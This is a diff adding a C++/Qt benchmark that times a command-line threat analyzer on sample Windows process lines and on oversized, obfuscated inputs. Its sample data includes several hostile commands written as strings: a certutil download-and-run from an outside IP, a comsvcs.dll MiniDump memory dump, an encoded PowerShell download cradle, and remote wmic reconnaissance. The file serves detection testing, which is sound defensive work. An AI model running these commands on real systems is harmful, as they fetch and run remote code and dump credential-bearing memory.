@@ -1,0 +1,116 @@
+// Command-line analysis throughput (SPEC §12): typical ~200-character lines per second on one
+// thread, and the time of each pathological line. Prints figures; asserts nothing.
+#include "cmdline/commandlineanalyzer.h"
+
+#include <QCoreApplication>
+#include <QElapsedTimer>
+
+#include <cstdio>
+
+using namespace causa;
+
+namespace {
+
+QString utf16Base64(const QString &s)
+{
+    const QByteArray bytes(reinterpret_cast<const char *>(s.utf16()), s.size() * 2);
+    return QString::fromLatin1(bytes.toBase64());
+}
+
+QString repeat(const QString &unit, qsizetype times)
+{
+    QString s;
+    s.reserve(unit.size() * times);
+    for (qsizetype i = 0; i < times; ++i)
+        s += unit;
+    return s;
+}
+
+// A mix like a real process-creation stream: mostly ordinary admin/system lines, some
+// LOLBin use, a few obfuscated ones. Each about 200 characters.
+QStringList typicalLines()
+{
+    return {
+        QStringLiteral("\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=7"),
+        QStringLiteral("C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule && C:\\Windows\\System32\\RuntimeBroker.exe -Embedding && \"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile"),
+        QStringLiteral("powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Program Files\\Contoso\\Agent\\scripts\\collect-inventory.ps1\" -OutputPath C:\\ProgramData\\Contoso\\inventory.json -Verbose"),
+        QStringLiteral("msiexec /i \"\\\\fileserver01\\deploy\\packages\\AcroRdrDC2300620360_en_US.msi\" /qn /norestart TRANSFORMS=\"\\\\fileserver01\\deploy\\acro.mst\" ALLUSERS=1 REBOOT=ReallySuppress"),
+        QStringLiteral("certutil.exe -urlcache -split -f http://203.0.113.50/files/update-service-x64.exe C:\\Users\\Public\\Libraries\\update-service.exe && C:\\Users\\Public\\Libraries\\update-service.exe"),
+        QStringLiteral("cmd.exe /c \"schtasks /create /tn \\\"Contoso Update\\\" /tr \\\"C:\\Program Files\\Contoso\\update.exe /silent\\\" /sc daily /st 03:00 /ru SYSTEM /f\" > C:\\Logs\\task.log 2>&1"),
+        QStringLiteral("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Windows\\Temp\\dbg.dmp full && del C:\\Windows\\Temp\\dbg.dmp && echo done > C:\\Windows\\Temp\\status.txt"),
+        QStringLiteral("powershell -nop -w hidden -enc ") + utf16Base64(QStringLiteral("IEX (New-Object Net.WebClient).DownloadString('http://0xB9DC652A:8080/a')")),
+        QStringLiteral("wmic /node:10.20.30.40 /user:CORP\\svc_backup process call create \"cmd.exe /c net user /domain > C:\\Windows\\Temp\\u.txt & whoami /all >> C:\\Windows\\Temp\\u.txt\""),
+        QStringLiteral("\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle /profile \"Outlook\" /select \"outlook:Inbox\" /c ipm.note /m \"someone@example.com\" /a \"C:\\Users\\jdoe\\Documents\\report.pdf\""),
+    };
+}
+
+void pathological(const CommandLineAnalyzer &analyzer, const char *name, const QString &line)
+{
+    QElapsedTimer t;
+    t.start();
+    const AnalysisResult r = analyzer.analyze(line);
+    const double ms = double(t.nsecsElapsed()) / 1e6;
+    std::printf("  %-42s %9.1f ms  (%lld chars, %lld layers, verdict %s)\n", name, ms,
+                static_cast<long long>(line.size()), static_cast<long long>(r.layers.size()),
+                qPrintable(r.verdict));
+}
+
+} // namespace
+
+int main(int argc, char *argv[])
+{
+    QCoreApplication app(argc, argv);
+    const CommandLineAnalyzer analyzer;
+    if (!analyzer.loadError().isEmpty()) {
+        std::fprintf(stderr, "knowledge: %s\n", qPrintable(analyzer.loadError()));
+        return 1;
+    }
+    const QStringList lines = typicalLines();
+    qsizetype chars = 0;
+    for (const QString &l : lines)
+        chars += l.size();
+    // Warm up, then time.
+    for (const QString &l : lines)
+        (void)analyzer.analyze(l);
+    const int rounds = argc > 1 ? QString::fromLocal8Bit(argv[1]).toInt() : 5000;
+    QElapsedTimer t;
+    t.start();
+    qint64 analysed = 0;
+    int malicious = 0;
+    for (int i = 0; i < rounds; ++i) {
+        for (const QString &l : lines) {
+            malicious += analyzer.analyze(l).verdict == QLatin1String("malicious");
+            ++analysed;
+        }
+    }
+    const double secs = double(t.nsecsElapsed()) / 1e9;
+    std::printf("Typical lines (avg %lld chars, mix of %lld): %lld analysed in %.2f s = %.0f lines/s on one "
+                "thread (%d malicious verdicts)\n",
+                static_cast<long long>(chars / lines.size()), static_cast<long long>(lines.size()),
+                static_cast<long long>(analysed), secs, analysed / secs, malicious);
+
+    std::printf("Pathological lines:\n");
+    QString b64;
+    const char *alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    for (int i = 0; i < 1024 * 1024; ++i)
+        b64 += QLatin1Char(alphabet[(quint64(i) * 7919u + quint64(i) / 13u) % 64u]);
+    pathological(analyzer, "1 MB base64-looking token after -enc", QStringLiteral("powershell -enc ") + b64);
+    QString b64x5 = repeat(b64, 5);
+    pathological(analyzer, "5 MB base64-looking token", QStringLiteral("cmd /c echo ") + b64x5);
+    QString nested = QStringLiteral("Write-Output innermost");
+    while (nested.size() < 2 * 1024 * 1024)
+        nested = QStringLiteral("powershell -enc ") + utf16Base64(nested);
+    pathological(analyzer, "-enc nested up to 2 MB", nested);
+    pathological(analyzer, "100k-item [char[]] array",
+                 QStringLiteral("-join [char[]](") + repeat(QStringLiteral("65,"), 100000) + QStringLiteral("66)"));
+    pathological(analyzer, "200k-item [char[]] array",
+                 QStringLiteral("-join [char[]](") + repeat(QStringLiteral("65,"), 200000) + QStringLiteral("66)"));
+    pathological(analyzer, "100k [char]N+ casts", repeat(QStringLiteral("[char]65+"), 100000) + QStringLiteral("[char]66"));
+    pathological(analyzer, "100,000 carets", QStringLiteral("c") + repeat(QStringLiteral("^"), 100000) + QStringLiteral("md"));
+    pathological(analyzer, "1M double quotes", repeat(QStringLiteral("\""), 1000000));
+    pathological(analyzer, "10 MB of 'A'", repeat(QStringLiteral("A"), 10 * 1024 * 1024));
+    pathological(analyzer, "100k backtick-escaped letters", repeat(QStringLiteral("I`E`X "), 100000));
+    pathological(analyzer, "50k set/call variables",
+                 QStringLiteral("cmd /c \"") + repeat(QStringLiteral("set a=b&&call %a%%a%&&"), 50000) + QStringLiteral("\""));
+    return 0;
+}
